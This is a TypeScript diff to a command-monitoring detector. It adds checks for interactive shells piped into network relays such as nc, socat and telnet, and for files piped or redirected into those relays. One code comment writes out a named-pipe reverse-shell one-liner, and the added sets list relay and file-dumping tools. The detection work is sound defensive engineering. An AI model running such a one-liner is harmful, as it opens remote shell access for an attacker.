@@ -419,9 +419,17 @@ function assess(candidate: Candidate, event: ExecEvent, context: AncestorContext
     if (feed !== undefined) add("critical", describeFeed(utility, feed));
   }
   for (const feed of context.feeds) add("critical", feed);
+  // A process event's own argv lacks redirections and pipes; the ancestor's command line that started
+  // this very command (`sh -c 'cat /tmp/f | sh -i 2>&1 | nc x 4444 > /tmp/f'`) has them.
+  const segment = candidate.segment ?? sameCommandInAncestors(candidate, context);
+  if (segment !== undefined && RELAYS.has(name)) {
+    const shell = relayedShell(segment);
+    if (shell !== undefined)
+      add("critical", `${name} relays an interactive shell (${quote(shell)} | ${name})`);
+  }
 
-  const outputs = downloadOutputs(name, parsed, candidate);
-  const executed = executedPaths([...(candidate.segments ?? []), ...context.segments], candidate.segment);
+  const outputs = downloadOutputs(name, parsed, candidate, segment);
+  const executed = executedPaths([...(candidate.segments ?? []), ...context.segments], segment);
   for (const output of outputs) {
     if (output.directory) continue;
     if (executed.has(resolvePath(candidate.cwd ?? UNKNOWN_DIR, output.path) ?? "")) {
@@ -449,7 +457,7 @@ function assess(candidate: Candidate, event: ExecEvent, context: AncestorContext
     add("high", `${name} ${what} like DNS exfiltration (${look}): ${quote(host)}`);
     break;
   }
-  const upload = uploads(name, parsed, candidate);
+  const upload = uploads(name, parsed, segment);
   if (upload !== undefined) add("high", `${name} ${upload}`);
   for (const output of outputs) {
     const resolved = resolvePath(candidate.cwd, output.path);
@@ -500,6 +508,108 @@ function assess(candidate: Candidate, event: ExecEvent, context: AncestorContext
     }
   }
   return { candidate, severity, reasons, ...(benign !== undefined ? { benign } : {}) };
+}
+
+/**
+ * The command of an ancestor's script that started the event's process: a segment below the top
+ * level running the same utility with the same arguments (word boundaries aside).
+ */
+function sameCommandInAncestors(candidate: Candidate, context: AncestorContext): CommandSegment | undefined {
+  const want = candidate.words.slice(1).join(" ");
+  for (const segment of context.segments) {
+    if (segment.depth === 0) continue;
+    const words = segment.argv.slice(commandStart(segment.argv));
+    const head = words[0];
+    if (head === undefined || lookupUtility(head)?.name !== candidate.utility.name) continue;
+    if (words.slice(1).join(" ") === want) return segment;
+  }
+  return undefined;
+}
+
+const RELAYS = new Set([
+  "nc",
+  "nc.openbsd",
+  "nc.traditional",
+  "netcat",
+  "ncat",
+  "cryptcat",
+  "socat",
+  "telnet",
+]);
+
+/**
+ * A shell that reads its commands from its input (no `-c`, no script file): `sh -i`, `/bin/bash`.
+ * Its output piped into a relay is a shell session carried over the network.
+ */
+function interactiveShell(segment: CommandSegment): string | undefined {
+  const words = segment.argv.slice(commandStart(segment.argv));
+  const head = words[0];
+  if (head === undefined || !isShell(head) || shellPayload(words) !== undefined) return undefined;
+  for (let i = 1; i < words.length; i++) {
+    const word = words[i]!;
+    if (word === "-o" || word === "+o" || word === "-O" || word === "--rcfile" || word === "--init-file") i++;
+    else if (!/^[-+]/.test(word) || word === "-" || word === "--") return undefined;
+  }
+  return words.join(" ");
+}
+
+/** The interactive shell whose output reaches `segment` through pipes, as written. */
+function relayedShell(segment: CommandSegment): string | undefined {
+  for (let node = segment.pipedFrom, k = 0; node !== undefined && k < 4096; node = node.pipedFrom, k++) {
+    const shell = interactiveShell(node);
+    if (shell !== undefined) return shell;
+  }
+  return undefined;
+}
+
+// Commands that print a file named among their operands (base64, xxd… also encode it on the way).
+const FILE_PRINTERS = new Set([
+  "cat",
+  "tac",
+  "head",
+  "tail",
+  "base64",
+  "base32",
+  "basenc",
+  "xxd",
+  "od",
+  "hexdump",
+  "strings",
+  "gzip",
+  "bzip2",
+  "xz",
+  "zstd",
+  "zcat",
+]);
+
+/** Whether `tar`'s words create an archive (`tar czf - /root`, `tar -c …`, `tar --create`). */
+function tarMode(words: readonly string[], mode: "c" | "x"): boolean {
+  const long = mode === "c" ? "--create" : "--extract";
+  return words.slice(1).some((word, i) => {
+    if (word === long || (mode === "x" && word === "--get")) return true;
+    if (word.startsWith("--")) return false;
+    // Old style (`tar czf`) only as the first word; dashed clusters (`-czf`) anywhere.
+    return (word.startsWith("-") || i === 0) && /^-?[A-Za-z]+$/.test(word) && word.includes(mode);
+  });
+}
+
+/** A command up `segment`'s pipeline that reads files and prints them, as written: `cat /etc/passwd`. */
+function pipedFiles(segment: CommandSegment): string | undefined {
+  for (let node = segment.pipedFrom, k = 0; node !== undefined && k < 4096; node = node.pipedFrom, k++) {
+    const words = node.argv.slice(commandStart(node.argv));
+    const head = words[0];
+    if (head === undefined) continue;
+    // What a shell or interpreter prints is its own output, not the file it was fed.
+    if (interpreterOf(node) !== undefined) return undefined;
+    const tool = executableName(head);
+    const reads =
+      (FILE_PRINTERS.has(tool) && words.slice(1).some((w) => !w.startsWith("-"))) ||
+      (tool === "tar" && tarMode(words, "c")) ||
+      (tool === "dd" && words.some((w) => w.startsWith("if="))) ||
+      node.redirects.some((r) => r.op === "<" && r.target !== "/dev/null");
+    if (reads) return words.join(" ");
+  }
+  return undefined;
 }
 
 const VERSION_OR_HELP = new Set(["--version", "-V", "-version", "--help", "-h", "-help", "-?"]);
@@ -719,7 +829,12 @@ interface Output {
 const NOT_FILES = new Set(["-", "/dev/null", "/dev/stdout", "/dev/stderr"]);
 
 /** Where the invocation writes what it downloads. */
-function downloadOutputs(name: string, parsed: ParsedArgs, candidate: Candidate): Output[] {
+function downloadOutputs(
+  name: string,
+  parsed: ParsedArgs,
+  candidate: Candidate,
+  segment: CommandSegment | undefined,
+): Output[] {
   const out: Output[] = [];
   const file = (path: string | undefined, why: string) => {
     if (path !== undefined && path !== "" && !NOT_FILES.has(path)) out.push({ path, directory: false, why });
@@ -814,30 +929,46 @@ function downloadOutputs(name: string, parsed: ParsedArgs, candidate: Candidate)
     default:
       break;
   }
-  const segment = candidate.segment;
-  if (segment !== undefined) {
-    for (const redirect of segment.redirects) {
+  if (segment === undefined) return out;
+  const redirected = (node: CommandSegment, via: string) => {
+    for (const redirect of node.redirects) {
       if (
         STDOUT_REDIRECTS.has(redirect.op) &&
         !NOT_FILES.has(redirect.target) &&
         !/^&?\d+$/.test(redirect.target)
       ) {
-        file(redirect.target, `${redirect.op} ${redirect.target}`);
+        file(redirect.target, `${via}${redirect.op} ${redirect.target}`);
       }
     }
-    const next = segment.pipesTo;
-    if (next !== undefined && !redirectsStdout(segment)) {
-      const words = next.argv.slice(commandStart(next.argv));
-      if (words[0] !== undefined && executableName(words[0]) === "tee") {
-        for (const word of words.slice(1)) if (!word.startsWith("-")) file(word, `| tee ${word}`);
-      }
+  };
+  redirected(segment, "");
+  if (redirectsStdout(segment)) return out;
+  // Down the pipeline the data keeps its way into files: `| tee f`, `| gunzip > f`, `| tar xz -C dir`.
+  for (let next = segment.pipesTo, k = 0; next !== undefined && k < 4096; next = next.pipesTo, k++) {
+    const words = next.argv.slice(commandStart(next.argv));
+    const tool = words[0] === undefined ? "" : executableName(words[0]);
+    if (tool === "tee") {
+      for (const word of words.slice(1)) if (!word.startsWith("-")) file(word, `| tee ${word}`);
+    } else if (tool === "tar" && tarMode(words, "x")) {
+      const at = words.findIndex((w) => w === "-C" || w === "--directory");
+      const named = words.find((w) => w.startsWith("--directory="))?.slice("--directory=".length);
+      const target = named ?? (at === -1 ? undefined : words[at + 1]);
+      const where = target === undefined ? next.cwd : resolvePath(next.cwd, target);
+      if (where !== undefined) dir(where, `| ${words.join(" ")}`);
+    } else if (tool === "dd") {
+      for (const word of words) if (word.startsWith("of=")) file(word.slice(3), `| ${word}`);
     }
+    if (redirectsStdout(next)) {
+      redirected(next, `| ${tool} `);
+      break;
+    }
+    if (stdinRunner(next) !== undefined) break;
   }
   return out;
 }
 
 /** What the invocation sends out of the container, in words after the utility's name; undefined when nothing. */
-function uploads(name: string, parsed: ParsedArgs, candidate: Candidate): string | undefined {
+function uploads(name: string, parsed: ParsedArgs, segment: CommandSegment | undefined): string | undefined {
   switch (name) {
     case "curl": {
       const upload = option(parsed, "-T", "--upload-file");
@@ -892,9 +1023,11 @@ function uploads(name: string, parsed: ParsedArgs, candidate: Candidate): string
     default:
       break;
   }
-  if (NETCATS.has(name) || name === "telnet" || name === "socat") {
-    const input = candidate.segment?.redirects.find((r) => r.op === "<" && r.target !== "/dev/null");
+  if (RELAYS.has(name) && segment !== undefined) {
+    const input = segment.redirects.find((r) => r.op === "<" && r.target !== "/dev/null");
     if (input !== undefined) return `sends a file (< ${quote(input.target)})`;
+    const piped = pipedFiles(segment);
+    if (piped !== undefined) return `sends a file (${quote(piped)} | ${name})`;
   }
   return undefined;
 }
